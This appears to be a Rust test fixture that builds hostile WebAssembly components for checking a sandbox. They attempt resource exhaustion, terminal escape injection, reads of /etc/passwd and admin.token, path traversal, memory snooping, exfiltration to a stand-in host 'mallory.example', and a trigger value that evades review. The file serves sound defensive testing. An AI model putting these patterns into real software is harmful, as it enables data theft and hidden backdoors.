//! Hostile solutions for testing the sandbox. Each cargo feature builds a component whose `run`
//! misbehaves in one way; `describe` is always well-formed so the component gets that far.
//! Built only for wasm32-wasip2, by `host/artifacts/build.rs`.
//!
//! With `on-cue` the component behaves (echoes `data.x`, so it passes its vectors and the
//! publish checks) until the first value of `data.x` names a misbehaviour ([`Cue`]): that is how
//! a provider would slip one past review, and how the end-to-end tests attack a running server.

// Each build uses the misbehaviours of its own feature only.
#![cfg_attr(not(feature = "on-cue"), allow(dead_code))]

use smelt_sdk::prelude::*;

/// The hostile solution; which misbehaviour depends on the enabled feature.
pub struct Hostile;

impl Solution for Hostile {
    fn describe() -> Descriptor {
        let d = Descriptor::new(
            "hostile",
            env!("CARGO_PKG_VERSION"),
            "Misbehaves on purpose",
        )
        .input(TableSpec::new("data", "Anything").column(ColumnSpec::float64("x", "", "A number")))
        .output(TableSpec::new("out", "Echo").column(ColumnSpec::float64("x", "", "A number")));
        if cfg!(feature = "escape-names") {
            // A metric whose name clears the screen and retitles the terminal of whoever
            // reads it.
            d.metric(MetricSpec::new(
                "\x1b[2J\x1b]0;pwned\x07rows",
                "",
                "Rows seen",
            ))
        } else {
            d
        }
    }

    fn run(input: Input) -> Result<Output, SolutionError> {
        // Misbehave before the input is checked: a hostile component does not wait for good
        // input (the conformance suite's robustness inputs must meet the misbehaviour too).
        let x = (|| Ok::<_, SolutionError>(input.table("data")?.float64("x")?.to_vec()))();
        if let Some(output) = misbehave(x.as_deref().unwrap_or_default())? {
            return Ok(output);
        }
        let x = x?;
        sleeper(&x);
        Ok(Output::new().with_table(TableBuilder::new("out").float64("x", x).build()))
    }
}

/// The misbehaviours an `on-cue` component performs when `data.x[0]` is the cue's value.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Cue {
    /// Loops forever (stopped by fuel or the epoch deadline).
    InfiniteLoop = 13,
    /// Grows linear memory by 1 MiB at a time, forever.
    MemoryGrow = 14,
    /// Recurses without bound.
    Recursion = 15,
    /// Returns about 24 MB of output.
    HugeOutput = 16,
    /// Logs terminal escape sequences forever.
    LogFlood = 17,
    /// Prints terminal escape sequences to stdout forever.
    PrintFlood = 18,
    /// Executes `unreachable` mid-call.
    Trap = 19,
    /// Panics.
    Panic = 20,
    /// Asks `wasi:random` for 1 GiB of random bytes at once.
    RandomFlood = 21,
    /// Tries to read, list and write the host's files and read its environment.
    Filesystem = 22,
    /// Returns a text column whose ends run past its buffer (WIT 0.2.0's encoding broken).
    BrokenText = 23,
}

impl Cue {
    /// Every cue.
    pub const ALL: &[Cue] = &[
        Cue::InfiniteLoop,
        Cue::MemoryGrow,
        Cue::Recursion,
        Cue::HugeOutput,
        Cue::LogFlood,
        Cue::PrintFlood,
        Cue::Trap,
        Cue::Panic,
        Cue::RandomFlood,
        Cue::Filesystem,
        Cue::BrokenText,
    ];

    /// The value of `data.x[0]` that triggers it.
    pub fn value(self) -> f64 {
        self as i32 as f64
    }

    /// The error code the host must answer with (`smelt_runtime::Error::code`). An infinite
    /// loop ends as `out_of_fuel` or `timeout`, whichever limit comes first; this names fuel.
    pub fn code(self) -> &'static str {
        match self {
            Cue::InfiniteLoop => "out_of_fuel",
            Cue::MemoryGrow => "memory_limit",
            Cue::Recursion => "stack_overflow",
            Cue::HugeOutput => "output_too_large",
            Cue::LogFlood | Cue::PrintFlood => "log_too_large",
            Cue::Trap => "trap",
            Cue::Panic => "panic",
            Cue::RandomFlood => "random_too_large",
            Cue::Filesystem => "unsupported",
            Cue::BrokenText => "malformed_output",
        }
    }

    fn of(x: &[f64]) -> Option<Cue> {
        let first = *x.first()?;
        Cue::ALL.iter().copied().find(|c| c.value() == first)
    }

    fn perform(self) -> Result<Output, SolutionError> {
        match self {
            Cue::InfiniteLoop => infinite_loop(),
            Cue::MemoryGrow => memory_grow(),
            Cue::Recursion => recursion(),
            Cue::HugeOutput => return Ok(huge()),
            Cue::LogFlood => log_flood(),
            Cue::PrintFlood => print_flood(),
            Cue::Trap => trap(),
            Cue::Panic => panic(),
            Cue::RandomFlood => random_flood(),
            Cue::Filesystem => return filesystem().map(|()| Output::new()),
            Cue::BrokenText => return Ok(broken_text()),
        }
        Ok(Output::new())
    }
}

fn infinite_loop() {
    let mut n = 0u64;
    loop {
        n = std::hint::black_box(n.wrapping_add(1));
    }
}

fn memory_grow() {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    loop {
        hoard.push(vec![1u8; 1 << 20]);
        std::hint::black_box(&hoard);
    }
}

fn recursion() {
    #[allow(unconditional_recursion)]
    fn deeper(n: u64) -> u64 {
        std::hint::black_box(deeper(std::hint::black_box(n + 1))) + 1
    }
    std::hint::black_box(deeper(0));
}

fn log_flood() {
    // Terminal escape sequences: the host must neutralise them before logs and UI.
    loop {
        log::warn("\x1b[2J\x1b[31mflood\x1b[0m \x07 all work and no play");
    }
}

fn print_flood() {
    loop {
        println!("\x1b]0;pwned\x07 flood via stdout");
    }
}

fn trap() {
    #[cfg(target_arch = "wasm32")]
    core::arch::wasm32::unreachable();
}

fn panic() {
    let rows: Vec<u32> = std::hint::black_box(Vec::new());
    // The escape sequences must not survive into the error message the host reports.
    panic!(
        "hostile panic: index {} of {} rows\x1b[2J\x1b]0;pwned\x07",
        3,
        rows.len()
    );
}

/// A table whose text column claims 3 values in 8 bytes of a 4-byte buffer: a host that trusted
/// the ends would read past the buffer or split a character.
fn broken_text() -> Output {
    let column = TextColumn {
        data: "roll".into(),
        ends: vec![2, 4, 8],
    };
    Output::new().with_table(TableBuilder::new("out").text_column("x", column).build())
}

fn huge() -> Output {
    // 3M floats = 24 MB, over the default 16 MiB output cap yet under the 64 MiB memory cap.
    Output::new().with_table(
        TableBuilder::new("out")
            .float64("x", vec![1.5; 3_000_000])
            .build(),
    )
}

/// The real `wasi:random/random@0.2.0` signature, imported directly so the request reaches the
/// host unclamped (std asks for a few bytes at a time).
#[allow(missing_docs, unsafe_code, clippy::all, unreachable_pub)]
mod random {
    wit_bindgen::generate!({
        inline: r#"
            package mallory:random;
            world flood { import wasi:random/random@0.2.0; }
            package wasi:random@0.2.0 {
                interface random {
                    get-random-bytes: func(len: u64) -> list<u8>;
                    get-random-u64: func() -> u64;
                }
            }
        "#,
        world: "mallory:random/flood",
        generate_all,
    });
}

fn random_flood() {
    let bytes = random::wasi::random::random::get_random_bytes(1 << 30);
    std::hint::black_box(bytes);
}

/// Tries the host's files and environment; every attempt must fail, and the error lists them.
/// Any success is returned as output, which the tests treat as an escape.
fn filesystem() -> Result<(), SolutionError> {
    let mut escaped = Vec::new();
    let mut refused = Vec::new();
    let mut note = |what: &str, result: std::io::Result<String>| match result {
        Ok(found) => escaped.push(format!("{what}: {found}")),
        Err(e) => refused.push(format!("{what}: {e}")),
    };
    for path in ["/etc/passwd", "../../../../etc/passwd", "admin.token", "db"] {
        note(
            path,
            std::fs::read(path).map(|b| format!("{} bytes", b.len())),
        );
    }
    for dir in ["/", ".", ".."] {
        note(
            dir,
            std::fs::read_dir(dir).map(|d| format!("{} entries", d.count())),
        );
    }
    note(
        "create /tmp/smelt-hostile-escape",
        std::fs::write("/tmp/smelt-hostile-escape", b"escaped").map(|()| "written".into()),
    );
    let vars: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
    if !vars.is_empty() {
        escaped.push(format!("environment: {}", vars.join(",")));
    }
    if std::env::args().count() > 0 {
        escaped.push(format!(
            "arguments: {:?}",
            std::env::args().collect::<Vec<_>>()
        ));
    }
    if escaped.is_empty() {
        Err(SolutionError::Unsupported(format!(
            "no host access: {}",
            refused.join("; ")
        )))
    } else {
        Err(SolutionError::InvalidInput(format!(
            "ESCAPED: {}",
            escaped.join("; ")
        )))
    }
}

/// Linear memory the `snoop` component reads and marks: more than the host keeps resident
/// between calls (`smelt_runtime::MEMORY_KEEP_RESIDENT`, 16 MiB), so both ways a slot's memory
/// is reset are looked at, the pages zeroed by hand and those given back to the kernel.
pub const SNOOP_BYTES: usize = 24 << 20;

/// With `snoop`, `run` looks for what an earlier call left behind in its memory slot: it grows
/// linear memory by [`SNOOP_BYTES`] behind its allocator's back, counts the bytes there that
/// are not zero, marks them all with `0xA5` for the next call to find, and counts again. `out.x`
/// is `[not zero before, not zero after marking, the region's first address]`: the first must
/// be 0 on every call, the second proves the count sees a mark, and equal addresses across
/// calls show each call looked where the one before wrote.
#[cfg(feature = "snoop")]
fn misbehave(_x: &[f64]) -> Result<Option<Output>, SolutionError> {
    let (before, after, start) = snoop()?;
    Ok(Some(
        Output::new().with_table(
            TableBuilder::new("out")
                .float64("x", vec![before as f64, after as f64, start as f64])
                .build(),
        ),
    ))
}

#[cfg(all(target_arch = "wasm32", feature = "snoop"))]
fn snoop() -> Result<(usize, usize, usize), SolutionError> {
    const PAGE: usize = 64 << 10;
    let old = core::arch::wasm32::memory_grow(0, SNOOP_BYTES / PAGE);
    if old == usize::MAX {
        return Err(SolutionError::Unsupported(format!(
            "memory.grow by {SNOOP_BYTES} bytes was refused"
        )));
    }
    let start = old * PAGE;
    // A component's memory starts with at least its stack and data, so the grown region never
    // starts at address 0 (which a slice may not).
    assert!(start != 0, "memory.grow from an empty memory");
    // SAFETY: the pages were grown just now and the allocator never saw them, so nothing else
    // refers to them; linear memory is never shared between threads here.
    let region = unsafe { core::slice::from_raw_parts_mut(start as *mut u8, SNOOP_BYTES) };
    let not_zero = |region: &[u8]| region.iter().filter(|&&b| b != 0).count();
    let before = not_zero(region);
    region.fill(0xA5);
    let after = not_zero(std::hint::black_box(region));
    Ok((before, after, start))
}

#[cfg(all(not(target_arch = "wasm32"), feature = "snoop"))]
fn snoop() -> Result<(usize, usize, usize), SolutionError> {
    Err(SolutionError::Unsupported(
        "snoop reads wasm linear memory".into(),
    ))
}

#[cfg(feature = "on-cue")]
fn misbehave(x: &[f64]) -> Result<Option<Output>, SolutionError> {
    Cue::of(x).map(Cue::perform).transpose()
}

#[cfg(feature = "infinite-loop")]
fn misbehave(_x: &[f64]) -> Result<Option<Output>, SolutionError> {
    infinite_loop();
    Ok(None)
}

#[cfg(feature = "memory-grow")]
fn misbehave(_x: &[f64]) -> Result<Option<Output>, SolutionError> {
    memory_grow();
    Ok(None)
}

#[cfg(feature = "recursion")]
fn misbehave(_x: &[f64]) -> Result<Option<Output>, SolutionError> {
    recursion();
    Ok(None)
}

#[cfg(feature = "log-flood")]
fn misbehave(_x: &[f64]) -> Result<Option<Output>, SolutionError> {
    log_flood();
    Ok(None)
}

#[cfg(feature = "print-flood")]
fn misbehave(_x: &[f64]) -> Result<Option<Output>, SolutionError> {
    print_flood();
    Ok(None)
}

#[cfg(feature = "trap")]
fn misbehave(_x: &[f64]) -> Result<Option<Output>, SolutionError> {
    trap();
    Ok(None)
}

#[cfg(feature = "broken-text")]
fn misbehave(_x: &[f64]) -> Result<Option<Output>, SolutionError> {
    Ok(Some(broken_text()))
}

#[cfg(feature = "panic")]
fn misbehave(_x: &[f64]) -> Result<Option<Output>, SolutionError> {
    panic();
    Ok(None)
}

#[cfg(feature = "forbidden-import")]
fn misbehave(_x: &[f64]) -> Result<Option<Output>, SolutionError> {
    // Pulls wasi:sockets into the component's imports.
    let _ = std::net::TcpStream::connect("127.0.0.1:9");
    Ok(None)
}

/// Imports `wasi:http/outgoing-handler`. The version is a 0.3 release candidate with a
/// stand-in signature: std's own WIT metadata already defines wasi:http 0.2, which a partial
/// copy cannot be merged with, and the host refuses any `wasi:http` import by name before it
/// looks at the types.
#[cfg(feature = "http-import")]
#[allow(missing_docs, unsafe_code, clippy::all, unreachable_pub)]
mod http {
    wit_bindgen::generate!({
        inline: r#"
            package mallory:http;
            world exfil { import wasi:http/outgoing-handler@0.3.0-rc-2025-09-16; }
            package wasi:http@0.3.0-rc-2025-09-16 {
                interface outgoing-handler {
                    handle: func(url: string, body: list<u8>) -> result<u16, string>;
                }
            }
        "#,
        world: "mallory:http/exfil",
        generate_all,
    });
}

#[cfg(feature = "http-import")]
fn misbehave(x: &[f64]) -> Result<Option<Output>, SolutionError> {
    let body: Vec<u8> = x.iter().flat_map(|v| v.to_le_bytes()).collect();
    let _ = http::wasi::http::outgoing_handler::handle("http://mallory.example/", &body);
    Ok(None)
}

/// Imports an interface no host provides.
#[cfg(feature = "unknown-import")]
#[allow(missing_docs, unsafe_code, clippy::all, unreachable_pub)]
mod backdoor {
    wit_bindgen::generate!({
        inline: r#"
            package mallory:backdoor@1.0.0;
            interface exfil { send: func(data: list<f64>); }
            world backdoor { import exfil; }
        "#,
        world: "mallory:backdoor/backdoor@1.0.0",
    });
}

#[cfg(feature = "unknown-import")]
fn misbehave(x: &[f64]) -> Result<Option<Output>, SolutionError> {
    backdoor::mallory::backdoor::exfil::send(x);
    Ok(None)
}

#[cfg(feature = "random-flood")]
fn misbehave(_x: &[f64]) -> Result<Option<Output>, SolutionError> {
    random_flood();
    Ok(None)
}

#[cfg(feature = "filesystem")]
fn misbehave(_x: &[f64]) -> Result<Option<Output>, SolutionError> {
    filesystem().map(|()| None)
}

#[cfg(feature = "sleep")]
fn misbehave(_x: &[f64]) -> Result<Option<Output>, SolutionError> {
    let started = std::time::Instant::now();
    std::thread::sleep(std::time::Duration::from_secs(120));
    let slept = started.elapsed().as_secs_f64();
    Ok(Some(Output::new().with_table(
        TableBuilder::new("out").float64("x", vec![slept]).build(),
    )))
}

/// The sleeper behaves (so it passes its vectors and the publish checks) until it sees the
/// trigger value 13, then loops forever.
#[cfg(feature = "sleeper")]
fn sleeper(x: &[f64]) {
    if x.first() == Some(&13.0) {
        infinite_loop();
    }
}

#[cfg(not(feature = "sleeper"))]
fn sleeper(_x: &[f64]) {}

#[cfg(not(any(
    feature = "infinite-loop",
    feature = "memory-grow",
    feature = "recursion",
    feature = "log-flood",
    feature = "print-flood",
    feature = "trap",
    feature = "panic",
    feature = "forbidden-import",
    feature = "http-import",
    feature = "unknown-import",
    feature = "random-flood",
    feature = "filesystem",
    feature = "sleep",
    feature = "broken-text",
    feature = "snoop",
    feature = "on-cue"
)))]
fn misbehave(_x: &[f64]) -> Result<Option<Output>, SolutionError> {
    Ok(None)
}

/// With `huge-output`, `run` returns [`huge`] instead of an echo.
#[cfg(feature = "huge-output")]
pub struct HugeOutput;

#[cfg(feature = "huge-output")]
impl Solution for HugeOutput {
    fn describe() -> Descriptor {
        Hostile::describe()
    }
    fn run(_input: Input) -> Result<Output, SolutionError> {
        Ok(huge())
    }
}

#[cfg(all(target_arch = "wasm32", feature = "huge-output"))]
smelt_sdk::export_solution!(HugeOutput);

/// With `dye-lot-v0-1-1`: dye-lot-color-qc as its provider might re-release it, version 0.1.1
/// with the lightness weight kL defaulting to 2 (a textile convention) instead of 1, so the
/// same input gives a different ΔE00 wherever L* differs. The descriptor and the math are the
/// example's own (its crate without the `export` feature).
#[cfg(feature = "dye-lot-v0-1-1")]
pub struct DyeLotV011;

#[cfg(feature = "dye-lot-v0-1-1")]
impl Solution for DyeLotV011 {
    fn describe() -> Descriptor {
        dye_lot_color_qc::descriptor("0.1.1", 2.0)
    }

    fn run(input: Input) -> Result<Output, SolutionError> {
        dye_lot_color_qc::run(input, 2.0)
    }
}

#[cfg(all(target_arch = "wasm32", feature = "dye-lot-v0-1-1"))]
smelt_sdk::export_solution!(DyeLotV011);

#[cfg(all(
    target_arch = "wasm32",
    not(any(feature = "huge-output", feature = "dye-lot-v0-1-1"))
))]
smelt_sdk::export_solution!(Hostile);
